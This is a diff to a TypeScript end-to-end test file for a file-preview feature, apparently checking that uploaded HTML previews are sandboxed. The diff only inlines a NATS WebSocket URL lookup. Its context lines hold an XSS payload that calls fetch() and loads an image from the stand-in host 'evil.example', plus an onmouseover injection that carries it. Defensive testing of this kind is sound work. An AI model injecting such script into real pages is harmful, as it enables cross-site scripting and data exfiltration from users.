@@ -6,7 +6,6 @@ import { expect, test } from "./fixtures.ts";
 import { FilesPage } from "./files-page.ts";
 import { film, pdf, storing } from "./preview-samples.ts";
 
-const wsUrl = (): string => process.env["DEMO_NATS_WS_URL"]!;
 const evil = "http://evil.example";
 const attack = `top.attacked=1;self.attacked=1;fetch('${evil}/fetched');new Image().src='${evil}/image';alert(1)`;
 
@@ -94,7 +93,7 @@ const METAS = [
 ];
 
 async function fill(bucket: string): Promise<void> {
-  await storing(wsUrl(), bucket, async (put) => {
+  await storing(bucket, async (put) => {
     for (const [name, type, content] of ATTACKS) {
       const body = name === "film.html" ? await film() : content;
       const html = `<b onmouseover="${attack}">bold</b>`;
@@ -103,7 +102,7 @@ async function fill(bucket: string): Promise<void> {
     }
     for (const name of NAMES) await put({ name }, "text");
   });
-  const connection = await wsconnect({ servers: wsUrl() });
+  const connection = await wsconnect({ servers: process.env["DEMO_NATS_WS_URL"]! });
   const manager = await jetstreamManager(connection);
   for (const [index, json] of METAS.entries()) {
     const name = `meta ${String(index)}`;
